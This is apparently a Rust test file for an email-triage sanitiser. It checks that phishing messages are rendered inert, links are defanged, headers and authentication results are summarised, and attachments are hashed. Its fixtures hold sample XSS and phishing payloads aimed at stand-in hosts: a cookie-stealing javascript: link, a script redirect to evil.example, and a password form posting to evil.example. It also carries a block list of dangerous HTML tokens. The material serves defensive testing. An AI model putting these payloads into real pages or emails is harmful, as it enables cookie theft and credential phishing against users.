#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use super::*;
use crate::msg::tests::{msg as outlook_msg, utf16};

fn email(content_type: &str, body: &str) -> Vec<u8> {
    format!(
        "From: \"HMRC Refunds\" <refunds@hmrc-refund.example>\r\n\
         Reply-To: claims@elsewhere.example\r\n\
         To: Jane Smith <jane@jane-smith.org.uk>, office@jane-smith.org.uk\r\n\
         Subject: Your tax refund <b>is waiting</b>\r\n\
         Date: Mon, 24 Nov 2025 09:00:00 +0000\r\n\
         Authentication-Results: mx.jane-smith.org.uk; spf=fail smtp.mailfrom=hmrc-refund.example; \
         dkim=none; dmarc=fail (p=reject) header.from=hmrc-refund.example\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: {content_type}; charset=utf-8\r\n\r\n{body}\r\n"
    )
    .into_bytes()
}

const HOSTILE: &str = r#"<html><head><title>secret title</title><style>body{display:none}</style>
<script>alert('head')</script></head>
<body onload="steal()"><p style="color:red" class="x" onclick="x()">Dear customer,</p>
<script>document.location='https://evil.example/'</script>
<img src="https://tracker.example/pixel.gif" onerror="alert(1)" alt="HMRC logo">
<a href="https://evil.example/login?next=1" onmouseover="x()">Claim your refund</a>
<a href="javascript:alert(document.cookie)">Click</a>
<iframe src="https://evil.example/frame">frame text</iframe>
<form action="https://evil.example/post"><input type="password" name="p"><button>Send</button></form>
<svg><script>alert(2)</script></svg>
<object data="x.swf">obj</object><embed src="y.swf">
<div style="background:url(https://tracker.example/bg.png)">Thanks</div>
<!-- a comment --></body></html>"#;

#[test]
fn a_hostile_html_body_is_made_inert() {
    let view = safe_view(&email("text/html", HOSTILE), &Limits::default()).unwrap();
    let body = view.body_html.to_ascii_lowercase();
    for bad in [
        "<script",
        "alert('head')",
        "alert(1)",
        "alert(2)",
        "document.location",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "style",
        "class=",
        "<img",
        "src=",
        "href",
        "<a",
        "<iframe",
        "<form",
        "<input",
        "<button",
        "<svg",
        "<object",
        "<embed",
        "javascript:",
        "https://",
        "display:none",
        "secret title",
        "frame text",
        "<!--",
        "tracker.example/bg",
    ] {
        assert!(!body.contains(bad), "{bad:?} survived in {}", view.body_html);
    }
    assert!(view.body_html.contains("Claim your refund <code>[hxxps://evil[.]example/login?next=1]</code>"));
    assert!(view.body_html.contains("<code>[javascript[:]alert(document[.]cookie)]</code>"));
    assert!(view.body_html.contains("[image not shown: HMRC logo]"));
    assert!(view.body_html.contains("[a form was here"));
    assert!(view.body_html.contains("Dear customer,"));
    assert!(view.body_html.contains("Thanks"));
}

#[test]
fn headers_links_and_authentication_are_summarised() {
    let view = safe_view(&email("text/html", HOSTILE), &Limits::default()).unwrap();
    assert_eq!(view.headers.from, "HMRC Refunds <refunds@hmrc-refund.example>");
    assert_eq!(view.headers.reply_to, vec!["claims@elsewhere.example".to_owned()]);
    assert_eq!(
        view.headers.to,
        vec!["Jane Smith <jane@jane-smith.org.uk>".to_owned(), "office@jane-smith.org.uk".into()]
    );
    assert_eq!(view.headers.subject, "Your tax refund <b>is waiting</b>", "kept as text, escaped when shown");
    assert_eq!(view.headers.date, "Mon, 24 Nov 2025 09:00:00 +0000");
    assert_eq!(view.headers.authentication.as_deref(), Some("mx.jane-smith.org.uk: spf=fail, dkim=none, dmarc=fail"));
    let login = view.links.iter().find(|l| l.text == "Claim your refund").unwrap();
    assert_eq!(login.destination_defanged, "hxxps://evil[.]example/login?next=1");
    assert_eq!(login.host, "evil.example");
    let script = view.links.iter().find(|l| l.text == "Click").unwrap();
    assert_eq!(script.host, "");
}

#[test]
fn a_text_body_is_escaped_never_interpreted() {
    let view = safe_view(
        &email("text/plain", "<script>alert(1)</script>\nSee https://evil.example & reply"),
        &Limits::default(),
    )
    .unwrap();
    assert_eq!(
        view.body_html,
        "<pre>&lt;script&gt;alert(1)&lt;/script&gt;\nSee https://evil.example &amp; reply</pre>"
    );
    assert_eq!(view.links[0].destination_defanged, "hxxps://evil[.]example");
}

#[test]
fn attachments_are_listed_with_their_hashes() {
    let raw = "From: a@b.example\r\nTo: c@d.example\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n\
        Content-Type: multipart/mixed; boundary=XX\r\n\r\n--XX\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n\
        --XX\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"invoice.pdf.exe\"\r\n\
        Content-Transfer-Encoding: base64\r\n\r\naGVsbG8=\r\n--XX--\r\n";
    let view = safe_view(raw.as_bytes(), &Limits::default()).unwrap();
    assert_eq!(
        view.attachments,
        vec![ViewAttachment {
            name: "invoice.pdf.exe".into(),
            content_type: "application/octet-stream".into(),
            size: 5,
            sha256: "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824".into(),
        }]
    );
    assert_eq!(view.body_html, "<pre>see attached</pre>");
}

#[test]
fn limits_bound_the_view() {
    let limits = Limits { max_message_bytes: 100, ..Limits::default() };
    let big = email("text/plain", &"x".repeat(200));
    assert!(matches!(safe_view(&big, &limits), Err(TriageError::TooLarge { .. })));
    let limits = Limits { max_text_bytes: 10, ..Limits::default() };
    let view = safe_view(&email("text/plain", &"y".repeat(50)), &limits).unwrap();
    assert_eq!(view.body_html, "<pre>yyyyyyyyyy</pre>");
    assert!(view.truncated);
    assert!(safe_view(b"just some words", &Limits::default()).is_err());
}

#[test]
fn destinations_are_defanged_the_way_responders_write_them() {
    assert_eq!(defang("https://evil.example/login"), "hxxps://evil[.]example/login");
    assert_eq!(defang("HTTP://a.b.example?x=1.2"), "hxxp://a[.]b[.]example?x=1.2");
    assert_eq!(defang("www.evil.example/x.html"), "www[.]evil[.]example/x.html");
    assert_eq!(defang("mailto:boss@evil.example"), "mailto[:]boss@evil[.]example");
    assert_eq!(defang(&format!("https://e.example/{}", "a".repeat(300))).chars().count(), 201);
    assert_eq!(host_of("www.Evil.example/x"), "www.evil.example");
    assert_eq!(auth_summary("mx.example; none"), "mx.example: no results");
}

#[test]
fn an_outlook_msg_is_shown_the_same_way() {
    let bytes = outlook_msg(&[
        ("/__substg1.0_007D001F", utf16("From: \"HMRC\" <refunds@gmail.com>\r\nSubject: Refund\r\n\r\n")),
        ("/__substg1.0_1000001F", utf16("You are eligible for a tax refund.")),
        ("/__substg1.0_10130102", b"<a href=\"http://198.51.100.2/\">www.gov.uk</a><script>x()</script>".to_vec()),
        ("/__attach_version1.0_#00000000/__substg1.0_37010102", b"MZ-not-really".to_vec()),
        ("/__attach_version1.0_#00000000/__substg1.0_3707001F", utf16("invoice.pdf.exe")),
    ]);
    let view = safe_view(&bytes, &Limits::default()).unwrap();
    assert_eq!(view.headers.from, "HMRC <refunds@gmail.com>");
    assert!(view.body_html.contains("www.gov.uk <code>[hxxp://198[.]51[.]100[.]2/]</code>"), "{}", view.body_html);
    assert!(!view.body_html.contains("<script"));
    assert_eq!(view.attachments[0].name, "invoice.pdf.exe");
    assert_eq!(view.attachments[0].size, 13);
}
